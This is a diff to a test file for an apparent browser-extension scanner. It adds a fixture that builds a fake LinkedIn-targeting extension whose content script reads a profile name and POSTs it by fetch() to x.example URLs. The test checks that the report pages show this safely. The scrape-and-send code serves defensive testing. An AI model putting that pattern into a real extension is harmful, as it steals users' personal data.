@@ -1,18 +1,24 @@
 """Every hostile text in every field of a result, in Chromium: nothing runs, nothing is asked for, nothing breaks."""
 
+import json
 import re
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any, Final
 
 import pytest
+from samples.packing import deterministic_zip
 
+from skimtrace.batch.one import scan_one
+from skimtrace.batch.settings import Settings
+from skimtrace.bundle.discover import Input
 from skimtrace.report.difference_page import Item, changes_page, diff_page
 from skimtrace.report.index import index_page, row
 from skimtrace.report.page import extension_page
 from skimtrace.result import model as m
 from skimtrace.result.build import TEXT, sealed
 from skimtrace.result.diff import diff
+from skimtrace.signatures.registry import load_signatures
 from tests.report.browser import looking
 from tests.report.browser.payloads import PAYLOADS, TEXTS
 from tests.report.browser.watch import Watched
@@ -124,3 +130,53 @@ def differing(ours: list[tuple[str, str, bool]], theirs: list[tuple[str, str, bo
         for old, new in zip(ours, theirs, strict=True)
         if (old[0], old[2]) != (new[0], new[2]) or (PLAIN not in old[1] and uncounted(old[1]) != uncounted(new[1]))
     ]
+
+
+def hostile_package(folder: Path) -> Path:
+    """Write an extension whose names, files, addresses, locales and code are payloads; nothing of it is ever run."""
+    texts = [one.text for one in PAYLOADS if one.text.isprintable()]
+    files = [re.sub(r"[/\\:]", "-", text)[:80] + ".js" for text in texts[:20]]
+    manifest = {
+        "manifest_version": 3,
+        "name": texts[0],
+        "version": "1",
+        "description": texts[1],
+        "default_locale": "en",
+        "permissions": ["storage", *texts[:20]],
+        "host_permissions": ["https://*.linkedin.com/*", *texts[20:40]],
+        "content_security_policy": {"extension_pages": texts[2]},
+        "content_scripts": [{"matches": ["https://*.linkedin.com/*"], "js": ["content.js", *files]}],
+    }
+    ends = [json.dumps(f"https://x.example/{text}") for text in texts]
+    sends = "".join(f"fetch({end}, {{method: 'POST', body: name}});\n" for end in ends)
+    reads = f"const name = document.querySelector('.pv-top-card h1').innerText; // {texts[3]}\n"
+    package = {
+        "manifest.json": json.dumps(manifest).encode(),
+        "content.js": (reads + sends).encode(),
+        **{name: f"const a = {json.dumps(text)};".encode() for name, text in zip(files, texts, strict=False)},
+        "_locales/en/messages.json": json.dumps({"x": {"message": texts[4]}}).encode(),
+    }
+    path = folder / "hostile.zip"
+    path.write_bytes(deterministic_zip(package))
+    return path
+
+
+def test_a_hostile_package_is_shown_and_nothing_of_it_runs(tmp_path: Path, watched: Watched, write: Write) -> None:
+    result = scan_one(Input(hostile_package(tmp_path), PAYLOADS[5].text), Settings(load_signatures()))
+    assert (result.error, result.verdict) == (None, "scrapes-and-sends")
+    page = watched.open(write(extension_page(result)))
+    for button in page.get_by_role("button", name="Source of").all()[:5]:
+        button.click()
+    looking.open_all(page)
+    assert [href for href in looking.links(page) if not OURS.fullmatch(href)] == []
+    assert [looking.sticks_out(page, width) for width in looking.WIDTHS] == [[], []]
+    for choice in page.get_by_role("radio", name="False").all()[:1]:
+        choice.check()
+    page.get_by_role("button", name="Save decisions").click()
+    assert "Not saved" in page.locator("#review-told").inner_text()
+    page.get_by_role("radio", name="Not decided").first.check()  # else the page would not let us go
+    index = watched.open(write(index_page([row(result, "page-1.html")]), "index.html"))
+    for view in index.locator("#views button").all():
+        view.click()
+    index.locator("#q").fill(PAYLOADS[0].text)
+    watched.settle()
